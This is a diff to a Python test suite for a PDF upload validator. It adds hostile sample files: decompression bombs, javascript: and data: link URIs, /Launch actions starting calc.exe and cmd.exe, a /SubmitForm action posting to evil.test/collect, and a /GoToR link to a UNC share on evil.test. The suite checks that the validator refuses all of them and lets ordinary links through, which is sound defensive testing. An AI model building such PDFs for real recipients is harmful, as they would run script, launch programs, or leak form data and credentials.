@@ -39,6 +39,10 @@ HOSTILE = {
     "executable": (lambda: b"MZ\x90\x00" + b"\x00" * 100, "Laden Sie eine PDF-, JPEG- oder PNG-Datei hoch."),
     "svg": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "Laden Sie eine PDF-, JPEG- oder PNG-Datei hoch."),
     "html_named_pdf": (lambda: b"<html><script>alert(1)</script></html>", "Laden Sie eine PDF-, JPEG- oder PNG-Datei hoch."),
+    "hex_flate_bomb": (lambda: samples.pdf_with_stream(*samples.chain_bomb("hex_flate")), "beschädigt"),
+    "double_flate_bomb": (lambda: samples.pdf_with_stream(*samples.chain_bomb("flate_flate")), "beschädigt"),
+    "javascript_link": (lambda: samples.pdf_with_link("javascript:app.alert(1)"), "aktive Inhalte"),
+    "orphan_catalog_with_javascript": (samples.pdf_with_orphan_javascript, "aktive Inhalte"),
 }
 
 
@@ -135,3 +139,46 @@ def test_a_stream_that_inflates_past_a_chunk_is_measured_in_bounded_time():
     worker.join(timeout=20)
     assert not worker.is_alive(), "measuring the inflated size did not finish"
     assert result == [3 * 1024 * 1024]
+
+
+#: (where, the entry) of every kind of active content a PDF can carry
+ACTIVE = {
+    "link_javascript_uri": lambda: samples.pdf_with_link("javascript:app.alert(1)"),
+    "link_obfuscated_javascript_uri": lambda: samples.pdf_with_link(" JaVa\tScRiPt:app.alert(1)"),
+    "link_file_uri": lambda: samples.pdf_with_link("file:///C:/Windows/System32/calc.exe"),
+    "link_data_uri": lambda: samples.pdf_with_link("data:text/html,<script>alert(1)</script>"),
+    "link_launch": lambda: samples.pdf_with_link("calc.exe", subtype="/Launch", key="/F"),
+    "link_submit_form": lambda: samples.pdf_with_link("https://evil.test/collect", subtype="/SubmitForm", key="/F"),
+    "link_import_data": lambda: samples.pdf_with_link("daten.fdf", subtype="/ImportData", key="/F"),
+    "link_goto_remote": lambda: samples.pdf_with_link("\\\\evil.test\\share\\x.pdf", subtype="/GoToR", key="/F"),
+    "link_javascript_action": lambda: samples.pdf_with_link("app.alert(1)", subtype="/JavaScript", key="/JS"),
+    "page_additional_actions": lambda: samples.pdf_with_page_entry(
+        "/AA", samples.DictionaryObject({samples.NameObject("/O"): samples.action("/JavaScript", JS="app.alert(1)")})),
+    "outline_javascript": lambda: samples.pdf_with_outline_action(samples.action("/JavaScript", JS="app.alert(1)")),
+    "outline_launch": lambda: samples.pdf_with_outline_action(samples.action("/Launch", F="cmd.exe")),
+    "outline_javascript_uri": lambda: samples.pdf_with_outline_action(samples.action("/URI", URI="javascript:alert(1)")),
+    "catalog_additional_actions": lambda: samples.pdf(AA=samples.DictionaryObject(
+        {samples.NameObject("/WC"): samples.action("/JavaScript", JS="app.alert(1)")})),
+    "catalog_uri_base": lambda: samples.pdf(URI=samples.DictionaryObject(
+        {samples.NameObject("/Base"): samples.TextStringObject("javascript:alert(1)//")})),
+}
+
+
+@pytest.mark.parametrize("kind", sorted(ACTIVE))
+def test_every_kind_of_active_content_is_refused(kind):
+    assert inspect(ACTIVE[kind]()).error == "upload_active_content"
+
+
+@pytest.mark.parametrize("uri", ["https://www.jobcenter.example/antrag", "http://example.org", "mailto:post@example.org",
+                                 "tel:+4930123456", "www.bank.example/kontoauszug"])
+def test_ordinary_links_pass(uri):
+    assert inspect(samples.pdf_with_link(uri)).ok
+
+
+def test_active_content_is_refused_with_a_clear_message_in_both_languages(uploader):
+    client, token = uploader
+    refused = upload(client, token, samples.pdf_with_link("javascript:app.alert(1)"))
+    assert refused.status_code == 400 and "aktive Inhalte" in refused.get_data(as_text=True)
+    client.get("/?lang=en")
+    refused = upload(client, token, samples.pdf_with_link("javascript:app.alert(1)"))
+    assert refused.status_code == 400 and "active content" in refused.get_data(as_text=True)
